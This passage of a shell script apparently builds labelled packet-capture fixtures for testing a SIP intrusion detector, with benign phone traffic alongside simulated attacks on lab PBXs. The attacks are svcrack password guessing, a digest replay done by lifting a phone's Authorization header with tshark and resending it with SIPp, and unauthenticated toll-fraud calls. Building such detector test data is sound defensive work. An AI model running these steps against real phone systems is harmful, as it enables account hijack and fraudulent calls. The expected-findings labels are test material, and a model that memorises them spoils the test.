	cap_stop --raw; pbx_down_all
	local sources="$work/run/lowslow-sources.txt" k
	for k in $(seq 0 99); do echo "127.100.$k.$((k + 1))"; done >"$sources"
	# 2026-03-02 00:00:00 UTC: a fixed start, so the fixture does not depend
	# on the day it was made.
	run /usr/bin/python3 "$here/bin/pcap-rewrite.py" "$work/raw/svcrack-low-and-slow-leaky.pcap" \
		"$out/svcrack-low-and-slow-leaky.pcap" --pbx "$LEAKY" --interval 600 --jitter 60 --seed 7 \
		--start 1772409600 --sources "@$sources" --rewrite-text
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "svcrack (SIPVicious 0.3.3), then test/lab/bin/pcap-rewrite.py",
	 "attackers": "127.100.K.K+1 for K = 0..99 (100 addresses, each in its own /24)",
	 "attacks": ["auth.low-and-slow", "scan.tool-fingerprint"], "findings": [],
	 "mayFind": ["auth.distributed-bruteforce", "exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.success-after-failures", "auth.weak-password", "auth.credential-stuffing", "dos.flood"],
	 "identities": ["107"], "weakPassword": null, "rewritten": true,
	 "description": "Two real svcrack runs against 107 with test/lab/wordlists/lowslow.txt (72 + 72 wrong passwords, REGISTER/401/REGISTER/403 each) from 127.0.2.50, then spread by pcap-rewrite.py: guess i starts at 2026-03-02T00:00:00Z + i x 600 s (+/- 60 s seeded jitter, seed 7) and comes from address i mod 100 (127.100.K.K+1); the address is also replaced in the SIP text (Via, received=, Contact), lengths and checksums are recomputed. 144 guesses over about 24 hours: no more than 1 guess in any 10 minutes, at most 2 from one address."}
	EOF
}

# replay_capture NAME NONCE_COUNT [ADDR PORT]: phone 104 registers; then an
# attacker (default 127.0.2.60:5060) copies the phone's first Authorization
# header out of the recording (tshark) and sends it in its own REGISTER
# (SIPp, the header injected as is). NONCE_COUNT=0: the PBX accepts it (200,
# the attacker's Contact is registered for 104); 1: nc=00000001 was used
# already, the PBX answers 401 stale=true.
replay_capture() {
	local name="$1" nc="$2" addr="${3:-127.0.2.60}" port="${4:-5060}" f
	NONCE_COUNT="$nc" pbx_up leaky $LEAKY
	cap_start "$name" "host $LEAKY"
	f="$(csv reg-104.csv "$(phone_line 104 leaky 300 stay)")"
	must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.4 -p 5060 -m 1 -d 1000 "$LEAKY:5060"
	sleep 3
	# The raw recording is complete up to here (tcpdump -U writes each packet).
	run sh -c "tshark -r '$work/raw/$name.pcap' -Y 'ip.src == 127.0.1.4 && udp.srcport == 5060 && sip.CSeq.method == \"REGISTER\" && sip.Authorization' -T fields -e sip.Authorization 2>/dev/null | head -n 1 >'$work/run/stolen-104.txt'"
	local stolen; stolen="$(cat "$work/run/stolen-104.txt")"
	[ -n "$stolen" ] || { echo "WARNING: $name: no Authorization header found to replay" >&2; }
	f="$(csv replay-104.csv "104;Authorization: $stolen;Linphone/3.6.1 (eXosip2/4.1.0)")"
	run timeout 10 sipp -sf "$SIPP/replay-register.xml" -inf "$f" -i "$addr" -p "$port" -m 1 "$LEAKY:5060"
	cap_stop; pbx_down_all
}

cap_sipp-digest-replay-same-address-leaky() {
	replay_capture sipp-digest-replay-same-address-leaky 0 127.0.1.4 5070
	meta <<-EOF
	{"profile": "leaky (nonce_count off)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml; replay-register.xml with the header copied by tshark)",
	 "attackers": ["127.0.1.4"], "attacks": ["auth.digest-replay"], "benign": false, "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.weak-password", "dos.flood"],
	 "identities": ["104"], "weakPassword": null,
	 "phones": {"127.0.1.4": "104 (port 5060)"},
	 "description": "A replay from the phone's own address: an attacker behind the same NAT (here the same loopback address 127.0.1.4, port 5070 instead of 5060) replays the phone's first Authorization header (nc=00000001, cnonce 6b8b4567) 3 s after the phone refreshed with the same nonce at nc=00000002 (cnonce 327b23c6). The PBX (nonce_count off) accepts it: 200, and 104's binding now points at port 5070. The nonce count of that nonce went backwards, more than 2 s after the higher count."}
	EOF
}

cap_sipp-digest-replay-leaky() {
	replay_capture sipp-digest-replay-leaky 0
	meta <<-EOF
	{"profile": "leaky (nonce_count off)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml; replay-register.xml with the header copied by tshark)",
	 "attackers": ["127.0.2.60"], "attacks": ["auth.digest-replay"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.weak-password", "dos.flood"],
	 "identities": ["104"], "weakPassword": null,
	 "phones": {"127.0.1.4": "104"},
	 "description": "The PBX runs with the auth module's nonce_count off (NONCE_COUNT=0). Phone 104 (127.0.1.4) registers: REGISTER, 401, REGISTER with credentials (nc=00000001), 200; a refresh 1 s later reuses the nonce (nc=00000002, new cnonce), 200. 3 s later an attacker at 127.0.2.60 sends a REGISTER for 104 of its own (own Call-ID, branch, Contact) carrying the phone's first Authorization header byte for byte, taken from the recording with tshark: the PBX accepts it (200) and registers the attacker's Contact for 104."}
	EOF
}

cap_sipp-digest-replay-refused-leaky() {
	replay_capture sipp-digest-replay-refused-leaky 1
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml; replay-register.xml with the header copied by tshark)",
	 "attackers": ["127.0.2.60"], "attacks": ["auth.digest-replay"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.weak-password", "dos.flood"],
	 "identities": ["104"], "weakPassword": null,
	 "phones": {"127.0.1.4": "104"},
	 "description": "The same replay against the lab's normal leaky PBX (nonce_count on): phone 104 registers and refreshes (nc=00000001, then 00000002); the attacker at 127.0.2.60 replays the phone's first Authorization header (nc=00000001, already used), and the PBX answers 401 with stale=true. The replay failed, but it was tried: the digest was captured and sent from a second address."}
	EOF
}

# toll_capture NAME ATTACKER PHONE(yes/no): an unauthenticated caller dials two
# outside numbers through the PSTN=open PBX; the provider (SIPp UAS at the
# trunk address) answers. With PHONE=yes, 102 registers first (the PBX is
# seen challenging someone).
toll_capture() {
	local name="$1" attacker="$2" phone="$3" f
	PSTN=open pbx_up leaky $LEAKY
	cap_start "$name" "host $LEAKY"
	if [ "$phone" = yes ]; then
		f="$(csv reg-102.csv "$(phone_line 102 leaky 300 stay)")"
		must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -d 500 "$LEAKY:5060"
	fi
	f="$(csv uas-trunk.csv "Provider-SBC/4.2")"
	bg timeout 30 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i "$TRUNK" -p 5060 -m 2 -mp 18000
	sleep 0.5
	f="$(csv fraud.csv "anonymous;;900442071234567;Linphone/3.6.1 (eXosip2/4.1.0)" "anonymous;;+442079460123;Linphone/3.6.1 (eXosip2/4.1.0)")"
	run timeout 20 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$attacker" -p 5060 -m 2 -r 1 -d 2000 -mp 17000 "$LEAKY:5060"
	wait_bg
	cap_stop; pbx_down_all
}

cap_sipp-toll-fraud-unseen-pbx-leaky() {
	toll_capture sipp-toll-fraud-unseen-pbx-leaky 127.0.2.71 no
	meta <<-EOF
	{"profile": "leaky (PSTN=open)", "pbx": "$LEAKY", "transport": "udp",
	 "tool": "SIPp 3.6.1 (call-uac.xml without credentials; call-uas.xml as the provider)",
	 "attackers": ["127.0.2.71"], "attacks": ["call.unauthenticated-accepted"], "benign": false, "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.bruteforce", "auth.digest-replay", "dos.flood", "session.dialog-hijack"],
	 "identities": [], "weakPassword": null, "trunk": "$TRUNK",
	 "description": "The toll fraud of sipp-toll-fraud-leaky without any phone traffic: the capture starts with the attacker (127.0.2.71, From 'anonymous', no credentials) dialling 900442071234567 and +442079460123; the PBX relays both to the provider at 127.0.3.1 (100, INVITE to the trunk, 180, 200, ACK, BYE). The PBX challenges nobody while recorded, as in a short capture or one filtered on a suspect address."}
	EOF
}

cap_sipp-toll-fraud-leaky() {
	toll_capture sipp-toll-fraud-leaky 127.0.2.70 yes
	meta <<-EOF
	{"profile": "leaky (PSTN=open: outside numbers routed to the trunk, guests not challenged)", "pbx": "$LEAKY", "transport": "udp",
	 "tool": "SIPp 3.6.1 (phone-register.xml; call-uac.xml without credentials; call-uas.xml as the provider)",
	 "attackers": ["127.0.2.70"], "attacks": ["call.unauthenticated-accepted"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["auth.bruteforce", "auth.digest-replay", "dos.flood", "session.dialog-hijack"],
	 "identities": ["102"], "weakPassword": null, "trunk": "$TRUNK",
	 "phones": {"127.0.1.2": "102"},
	 "description": "Toll fraud through an open dial plan. The PBX challenges callers whose From is a local extension but routes anyone else's INVITE to an outside number straight to the trunk (the flaw of Asterisk's allowguest and of many hand-written Kamailio routes). Phone 102 registers (401, 200: the PBX is seen challenging). A SIPp caller at 127.0.2.70 with From 'anonymous' and no credentials dials 900442071234567 and, a second later, +442079460123: each INVITE goes through the PBX (record-routed, the 9 prefix dropped) to the provider at 127.0.3.1 (a SIPp UAS), which answers 180 and 200 with SDP; the caller ACKs, talks 2 s and hangs up. The PBX leg to the trunk carries no credentials either (the PBX's own outbound leg)."}
	EOF
}

########## benign ##########

phone_line() { # EXT PROFILE EXPIRES STAY
	local id="$1"
	[ "$2" = 3cx-like ] && id="${AUTHID[$1]}"
	echo "$1;$(auth "$id" "${PASSWORD[$1]}");$3;${UA[$1]};$4"
}

cap_benign-phones-register-3cx() {
	pbx_up 3cx-like $TCX
	cap_start benign-phones-register-3cx "host $TCX"
	local e f
	for e in 102 104 105 108; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" 3cx-like 60 go)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -m 1 -d 4000 "$TCX:5060"
		sleep 0.7
	done
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml), one per phone",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.distributed-bruteforce", "auth.success-after-failures", "auth.stale-credentials", "recon.extension-enumeration", "dos.flood", "scan.tool-fingerprint"],
	 "identities": ["${AUTHID[102]}", "${AUTHID[104]}", "${AUTHID[105]}", "${AUTHID[108]}"], "weakPassword": null,
	 "phones": {"127.0.1.2": "102", "127.0.1.4": "104", "127.0.1.5": "105", "127.0.1.8": "108"},
	 "description": "Four phones (102, 104, 105, 108; their Auth IDs differ from the numbers) register: REGISTER, 407, REGISTER with credentials, 200; refresh 4 s later reusing the nonce (nc=2, accepted at once); unregister (Expires: 0). The first REGISTER's 407 is not a failure."}
	EOF
}

cap_benign-phones-register-tcp-leaky() {
	pbx_up leaky $LEAKY
	cap_start benign-phones-register-tcp-leaky "host $LEAKY"
	local e f
	for e in 102 104 105; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" leaky 60 go)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -t t1 -i "127.0.1.${e#10}" -p 5060 -m 1 -d 3000 "$LEAKY:5060"
		sleep 0.5
	done
	wait_bg
	run timeout 5 sipsak -U -s "sip:105@$LEAKY" -a "${PASSWORD[105]}" --transport tcp --local-ip 127.0.1.5 -H 127.0.1.5
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "tcp", "tool": "SIPp 3.6.1 (phone-register.xml, -t t1) and sipsak 0.9.8.1 -U --transport tcp",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.stale-credentials", "dos.flood", "recon.extension-enumeration"],
	 "identities": ["102", "104", "105"], "weakPassword": null,
	 "description": "Phones 102, 104, 105 register over TCP (one connection each): REGISTER/401/REGISTER/200, refresh, unregister; then sipsak registers 105 once more over a new TCP connection (its Authorization username is '105@', a sipsak quirk)."}
	EOF
}

call_capture() { # NAME PROFILE PBX TRANSPORT(u1|t1)
	local name="$1" profile="$2" pbx="$3" tr="$4"
	pbx_up "$profile" "$pbx"
	cap_start "$name" "host $pbx"
	local caller_id=105 f
	[ "$profile" = 3cx-like ] && caller_id="${AUTHID[105]}"
	f="$(csv reg-102.csv "$(phone_line 102 "$profile" 300 stay)")"
	must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -t "$tr" -i 127.0.1.2 -p 5060 -m 1 -d 500 "$pbx:5060"
	f="$(csv uas-102.csv "${UA[102]}")"
	bg timeout 20 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -t "$tr" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	sleep 0.5
	f="$(csv call-105.csv "105;$(auth "$caller_id" "${PASSWORD[105]}");102;${UA[105]}")"
	must_run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -t "$tr" -i 127.0.1.5 -p 5060 -m 1 -d 3000 -mp 17000 "$pbx:5060"
	wait_bg
	cap_stop; pbx_down_all
}

cap_benign-call-udp-leaky() {
	call_capture benign-call-udp-leaky leaky $LEAKY u1
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, call-uas.xml, call-uac.xml)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.success-after-failures", "dos.flood", "session.dialog-hijack", "call.unauthenticated-accepted"],
	 "identities": ["105", "102"], "weakPassword": null,
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "description": "102 registers (401 then 200) and refreshes; 105 calls 102 through the PBX: INVITE, 407, ACK, INVITE with Proxy-Authorization, 100, INVITE forwarded to 127.0.1.2, 180, 200 (SDP, no RTP sent), ACK via the Record-Route, 3 s, BYE, 200."}
	EOF
}

cap_benign-call-tcp-3cx() {
	call_capture benign-call-tcp-3cx 3cx-like $TCX t1
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "tcp", "tool": "SIPp 3.6.1 (phone-register.xml, call-uas.xml, call-uac.xml; -t t1)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.success-after-failures", "dos.flood", "session.dialog-hijack", "call.unauthenticated-accepted"],
	 "identities": ["${AUTHID[105]}", "${AUTHID[102]}"], "weakPassword": null,
	 "phones": {"127.0.1.5": "105", "127.0.1.2": "102"},
	 "description": "The same call over TCP through the 3cx-like PBX: REGISTER/407/REGISTER/200 for 102 (Auth ID ${AUTHID[102]}), then INVITE/407/ACK/INVITE/100/180/200/ACK/BYE/200 from 105 (Auth ID ${AUTHID[105]}). The PBX opens its own TCP connection to 127.0.1.2:5060 to deliver the INVITE."}
	EOF
}

cap_benign-trunk-call-hardened() {
	pbx_up hardened $HARDENED
	cap_start benign-trunk-call-hardened "host $HARDENED"
	local f
	f="$(csv reg-104.csv "$(phone_line 104 hardened 300 stay)")"
	must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.4 -p 5060 -m 1 -d 500 "$HARDENED:5060"
	f="$(csv uas-104.csv "${UA[104]}")"
	bg timeout 20 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i 127.0.1.4 -p 5060 -m 1 -mp 16000
	sleep 0.5
	f="$(csv trunk.csv "+442071838750;;104;Provider-SBC/4.2")"
	must_run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$TRUNK" -p 5060 -m 1 -d 2000 -mp 17000 "$HARDENED:5060"
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "hardened", "pbx": "$HARDENED", "transport": "udp", "tool": "SIPp 3.6.1",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": [],
	 "mustNotFind": ["auth.bruteforce", "call.unauthenticated-accepted", "dos.flood", "session.dialog-hijack"],
	 "identities": ["104"], "weakPassword": null, "trunk": "$TRUNK",
	 "description": "104 registers; the trunk 127.0.3.1 (trusted by address, never challenged) delivers an inbound call from +442071838750 to 104: INVITE, 100, 180, 200, ACK, BYE, 200. The unauthenticated INVITE comes from the trunk: not call.unauthenticated-accepted."}
	EOF
}

cap_benign-nat-office-storm-3cx() {
	pbx_up 3cx-like $TCX
	local -a lines=() e id
	for e in $(seq 200 239); do
		id="$(printf 'authid-%s' "$e" | md5sum | cut -c1-8)"
		lines+=("$e;$(auth "$id" "ofc-$e-Kq7");300;Yealink SIP-T31P 124.86.0.40;stay")
	done
	local f; f="$(csv office.csv "${lines[@]}")"
	cap_start benign-nat-office-storm-3cx "host $TCX"
	must_run timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -t un -max_socket 200 -i 127.0.1.200 -r 40 -m 40 -d 1000 "$TCX:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, -t un: one socket per phone)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["dos.flood", "auth.credential-stuffing", "auth.bruteforce", "recon.extension-enumeration", "auth.distributed-bruteforce"],
	 "identities": "40 Auth IDs, md5('authid-<ext>')[0:8] for extensions 200-239", "weakPassword": null,
	 "description": "A NATed office reconnecting: 40 phones (extensions 200-239, all correct passwords) behind one address 127.0.1.200, each from its own source port, all within one second: REGISTER, 407, REGISTER with credentials, 200, and a refresh 1 s later. 40 identities from one address in a second, every one accepted: not a flood, not stuffing."}
	EOF
}

cap_benign-stale-credentials-leaky() {
	pbx_up leaky $LEAKY
	local f; f="$(csv stale.csv "106;$(auth 106 'Ue1-Wc9rZ0');120;${UA[106]}")"
	cap_start benign-stale-credentials-leaky "host $LEAKY"
	run timeout 60 sipp -sf "$SIPP/phone-retry.xml" -inf "$f" -i 127.0.1.6 -p 5060 -m 1 -d 1500 "$LEAKY:5060"
	cap_stop --raw; pbx_down_all
	run /usr/bin/python3 "$here/bin/pcap-rewrite.py" "$work/raw/benign-stale-credentials-leaky.pcap" \
		"$out/benign-stale-credentials-leaky.pcap" --pbx "$LEAKY" --split attempt --interval 120 \
		--start 1772438400
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-retry.xml), then test/lab/bin/pcap-rewrite.py --split attempt",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["auth.stale-credentials"],
	 "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.low-and-slow", "auth.distributed-bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "dos.flood"],
	 "identities": ["106"], "weakPassword": null, "rewritten": true,
	 "description": "A Cisco SPA504G (127.0.1.6) still configured with 106's old password 'Ue1-Wc9rZ0' (now 'Ue1-Wc9rZa'): 12 attempts in one dialog (same Call-ID, From tag, CSeq rising), each REGISTER, 401, REGISTER with the old credentials, 403. Recorded 1.5 s apart, then re-timed by pcap-rewrite.py (--split attempt) to one attempt every 120 s from 2026-03-02T08:00:00Z (22 minutes). Only times change. A misconfiguration finding (low), not an attack."}
	EOF
}

cap_benign-stale-nonce-leaky() {
	NONCE_EXPIRE=5 pbx_up leaky $LEAKY
	cap_start benign-stale-nonce-leaky "host $LEAKY"
	local e f
	for e in 102 105 108; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" leaky 60 go)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -m 1 -d 8000 "$LEAKY:5060"
		sleep 0.4
	done
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky (nonce_expire 5 s)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.stale-credentials", "auth.digest-replay"],
	 "identities": ["102", "105", "108"], "weakPassword": null,
	 "description": "The PBX runs with NONCE_EXPIRE=5 (auth module nonce_expire). Phones 102, 105, 108 register (401, 200), wait 8 s and refresh with the old, now expired nonce: the PBX answers 401 with stale=true, the phone answers the new challenge and gets 200; then unregisters. A stale=true challenge is not a failure."}
	EOF
}

cap_benign-weak-password-phone-leaky() {
	pbx_up leaky $LEAKY
	cap_start benign-weak-password-phone-leaky "host $LEAKY"
	local f; f="$(csv reg-103.csv "$(phone_line 103 leaky 60 go)")"
	must_run timeout 20 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.3 -p 5060 -m 1 -d 2000 "$LEAKY:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml)",
	 "attackers": [], "attacks": [], "benign": true, "findings": ["auth.weak-password"],
	 "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.bruteforce", "auth.success-after-failures", "auth.credential-stuffing", "auth.stale-credentials"],
	 "identities": ["103"], "weakPassword": {"identity": "103", "extension": "103", "password": "103"},
	 "phones": {"127.0.1.3": "103"},
	 "description": "A Grandstream phone registers 103, whose password is its own number: REGISTER, 401, REGISTER with credentials, 200, a refresh with the same nonce (200), unregister (200). No attack; the accepted digest cracks against a small dictionary (auth.weak-password, a posture finding)."}
	EOF
}

cap_benign-options-keepalive-hardened() {
	pbx_up hardened $HARDENED
	cap_start benign-options-keepalive-hardened "host $HARDENED"
	local e f
	for e in 101 102 103; do
		f="$(csv "ka-$e.csv" "$e;${UA[$e]}")"
		bg timeout 30 sipp -sf "$SIPP/options-ping.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -r 1 -rp 1500 -m 12 "$HARDENED:5060"
		sleep 0.3
	done
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "hardened", "pbx": "$HARDENED", "transport": "udp", "tool": "SIPp 3.6.1 (options-ping.xml)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": [],
	 "mustNotFind": ["dos.flood", "recon.extension-enumeration", "scan.tool-fingerprint"],
	 "identities": [], "weakPassword": null,
	 "description": "Three phones send an OPTIONS keepalive to the PBX every 1.5 s, 12 each (36 OPTIONS, 36 x 200 OK)."}
	EOF
}

cap_benign-options-keepalive-tcp-leaky() {
	pbx_up leaky $LEAKY
	cap_start benign-options-keepalive-tcp-leaky "host $LEAKY"
	local i f
	for i in 1 2 3 4 5 6; do
		run timeout 5 sipsak --transport tcp -s "sip:$LEAKY" --local-ip 127.0.1.7 -H 127.0.1.7
		sleep 1
	done
	f="$(csv ka-tcp.csv "108;Grandstream GRP2614 1.0.5.67")"
	run timeout 30 sipp -sf "$SIPP/options-ping.xml" -inf "$f" -t t1 -i 127.0.1.8 -p 5060 -r 1 -rp 1000 -m 8 "$LEAKY:5060"
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "tcp", "tool": "sipsak 0.9.8.1 --transport tcp; SIPp 3.6.1 (options-ping.xml, -t t1)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["dos.flood", "recon.extension-enumeration"],
	 "identities": [], "weakPassword": null,
	 "description": "Over TCP: sipsak sends 6 OPTIONS a second apart, each on a new connection (SYN, OPTIONS, 200, FIN); then a SIPp phone at 127.0.1.8 sends 8 OPTIONS a second apart on one connection."}
	EOF
}

cap_benign-tls-register-leaky() {
	if [ ! -f /usr/lib/x86_64-linux-gnu/kamailio/modules/tls.so ]; then
		echo "== benign-tls-register-leaky: skipped (apt-get install kamailio-tls-modules)"; return 0
	fi
	pbx_up leaky $LEAKY
	cap_start benign-tls-register-leaky "host $LEAKY"
	run timeout 5 sipsak --transport tls -s "sip:$LEAKY:5061" --tls-ignore-cert-failure --local-ip 127.0.1.9 -H 127.0.1.9
	run timeout 5 sipsak -U --transport tls -s "sip:109@$LEAKY:5061" -a "${PASSWORD[109]}" --tls-ignore-cert-failure --local-ip 127.0.1.9 -H 127.0.1.9
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "tls", "tool": "sipsak 0.9.8.1 --transport tls",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": [],
	 "mustNotFind": ["dos.flood", "auth.bruteforce", "protocol.malformed"],
	 "identities": [], "weakPassword": null,
	 "description": "SIP over TLS on 5061 (self-signed certificate made by pbx.sh): an OPTIONS and a REGISTER for 109, all encrypted. A decoder must find 0 SIP messages and must not report the TLS records as malformed SIP."}
	EOF
}

cap_benign-register-retransmit-leaky() {
	LOSSY=1 pbx_up leaky $LEAKY
	cap_start benign-register-retransmit-leaky "host $LEAKY"
	local e f
	for e in 102 105 108; do
		f="$(csv "reg-$e.csv" "$(phone_line "$e" leaky 60 go)")"
		bg timeout 30 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i "127.0.1.${e#10}" -p 5060 -m 1 -d 2000 "$LEAKY:5060"
		sleep 0.3
	done
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky (LOSSY=1: the first copy of every REGISTER is lost)", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, retransmission after 500 ms)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["auth.digest-replay", "auth.bruteforce", "auth.credential-stuffing", "auth.success-after-failures", "auth.stale-credentials", "dos.flood"],
	 "identities": ["102", "105", "108"], "weakPassword": null,
	 "phones": {"127.0.1.2": "102", "127.0.1.5": "105", "127.0.1.8": "108"},
	 "description": "A lossy path: the PBX (LOSSY=1) ignores the first copy of every REGISTER transaction, so each phone's request goes unanswered and SIPp retransmits it 500 ms later (same branch, same credentials), and the retransmission is answered. Phones 102, 105, 108 register (REGISTER, REGISTER again, 401, REGISTER with credentials, the same again, 200), refresh with nc=2 (sent twice, 200), unregister (sent twice, 200). Each digest is sent twice from the same address in the same transaction: a retransmission, not a replay."}
	EOF
}

cap_benign-outbound-call-leaky() {
	PSTN=open pbx_up leaky $LEAKY
	cap_start benign-outbound-call-leaky "host $LEAKY"
	local f
	f="$(csv reg-102.csv "$(phone_line 102 leaky 300 stay)")"
	must_run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -d 500 "$LEAKY:5060"
	f="$(csv uas-102.csv "${UA[102]}")"
	bg timeout 30 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -mp 16000
	f="$(csv uas-trunk.csv "Provider-SBC/4.2")"
	bg timeout 30 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i "$TRUNK" -p 5060 -m 1 -mp 18000
	sleep 0.5
	f="$(csv call-105.csv "105;$(auth 105 "${PASSWORD[105]}");900442071234567;${UA[105]}")"
	must_run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 1 -d 2000 -mp 17000 "$LEAKY:5060"
	f="$(csv trunk-in.csv "+442071838750;;102;Provider-SBC/4.2")"
	must_run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$TRUNK" -p 5062 -m 1 -d 2000 -mp 19000 "$LEAKY:5060"
	wait_bg
	cap_stop; pbx_down_all
	meta <<-EOF
	{"profile": "leaky (PSTN=open)", "pbx": "$LEAKY", "transport": "udp",
	 "tool": "SIPp 3.6.1 (phone-register.xml, call-uac.xml, call-uas.xml as phone and as provider)",
	 "attackers": [], "attacks": [], "benign": true, "findings": [], "mayFind": ["exposure.vulnerable-version"],
	 "mustNotFind": ["call.unauthenticated-accepted", "auth.bruteforce", "auth.digest-replay", "auth.success-after-failures", "dos.flood", "session.dialog-hijack"],
	 "identities": ["102", "105"], "weakPassword": null, "trunk": "$TRUNK",
	 "phones": {"127.0.1.2": "102", "127.0.1.5": "105"},
	 "description": "The same PBX and dial plan as sipp-toll-fraud-leaky, used as intended. 102 registers. 105 (127.0.1.5) calls 900442071234567: INVITE, 407, ACK, INVITE with Proxy-Authorization, 100; the PBX sends the call (without the credentials, which it consumes) to the provider at 127.0.3.1, which answers 180 and 200; ACK, 2 s, BYE. Then the provider (127.0.3.1, from port 5062) delivers an inbound call from +442071838750 to extension 102, not challenged (trusted by address): INVITE, 100, INVITE to 127.0.1.2, 180, 200, ACK, BYE. Neither is an unauthenticated call to an outside number from an untrusted source."}
	EOF
}

cap_benign-shared-nonce-leaky() {
